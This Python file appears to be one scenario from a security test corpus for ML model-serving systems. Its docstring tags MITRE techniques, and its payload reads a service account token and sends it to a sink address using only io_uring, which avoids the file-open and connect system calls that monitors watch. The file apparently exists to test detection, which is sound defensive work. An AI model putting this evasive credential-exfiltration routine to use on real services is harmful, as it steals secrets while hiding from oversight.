"""
id: S13
name: io-uring-evasion
class: quiet
phase: serve
trigger: request
evidence: [network, syscall]
techniques: [T1106, T1552.001, T1041, AML.T0107]
servers: [fastapi, asyncio, bentoml, triton]
seconds: 5
what: >
  Reads the service account's token and sends it to an address nobody asked before, all through io_uring: no system call
  opens a file or connects.
"""

from corpus.uring import Ring


def payload(world):
    with Ring() as ring:
        file = ring.open(world.token)
        secret = ring.read(file, 4096)
        ring.close(file)
        peer = ring.socket()
        ring.connect(peer, world.sink, world.sink_port())
        ring.send(peer, secret)
        ring.close(peer)
